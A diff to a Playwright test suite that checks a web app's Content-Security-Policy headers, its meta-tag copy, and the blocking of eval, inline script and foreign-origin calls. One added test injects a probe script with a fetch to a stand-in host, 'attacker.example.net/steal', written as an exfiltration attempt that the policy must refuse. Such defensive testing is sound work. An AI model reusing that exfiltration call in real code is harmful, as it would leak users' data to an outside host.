@@ -43,6 +43,38 @@ test.describe('Content-Security-Policy', () => {
     expect(policy).not.toContain('unsafe-inline');
     expect(policy).not.toContain('unsafe-eval');
     expect(response?.headers()['x-frame-options']).toBe('DENY');
+    // The sandbox gateway is same-origin: nothing else may be called.
+    expect(policy).toMatch(/connect-src 'self'(;|$)/);
+    // Hosts that cannot set headers get the same policy (less what a <meta> cannot say) in index.html.
+    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    expect(meta).toContain("script-src 'self'");
+    expect(meta).toContain("connect-src 'self'");
+  });
+
+  test('eval and calls to a foreign origin are refused', async ({ page }) => {
+    const violations = await recordViolations(page);
+    // A same-origin script (allowed by script-src 'self') that tries what the policy forbids. It must come
+    // from the page itself: code the test runner evaluates through DevTools is exempt from the policy.
+    const probe = `
+      let evaluated = 'ran';
+      try { (0, eval)('1 + 1'); } catch (error) { evaluated = error instanceof EvalError ? 'refused' : String(error); }
+      window.__cspProbe = fetch('https://attacker.example.net/steal').then(
+        () => ({ evaluated, fetched: 'answered' }),
+        () => ({ evaluated, fetched: 'refused' }),
+      );`;
+    await page.route('**/csp-probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: probe }));
+    await page.goto('/login');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = '/csp-probe.js';
+      document.head.append(script);
+    });
+    await page.waitForFunction(() => '__cspProbe' in window);
+    const outcome = await page.evaluate(() => (window as unknown as { __cspProbe: Promise<unknown> }).__cspProbe);
+    expect(outcome).toEqual({ evaluated: 'refused', fetched: 'refused' });
+    await expect.poll(async () => (await violations.events()).some((event) => event.startsWith('connect-src'))).toBe(true);
+    expect((await violations.events()).some((event) => event.startsWith('script-src'))).toBe(true);
   });
 
   test('a login-to-home journey and a tour of the main pages trigger no violation', async ({ page }) => {
@@ -75,6 +107,8 @@ test.describe('Content-Security-Policy', () => {
       return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
     });
     expect(ran).toBe(false);
-    await expect.poll(violations.events).toEqual([expect.stringContaining('script-src')]);
+    // One report per policy that blocked it: the header's and the <meta> copy's (both are enforced).
+    await expect.poll(async () => (await violations.events()).length).toBeGreaterThan(0);
+    for (const event of await violations.events()) expect(event).toMatch(/^script-src(-elem)? blocked inline/);
   });
 });
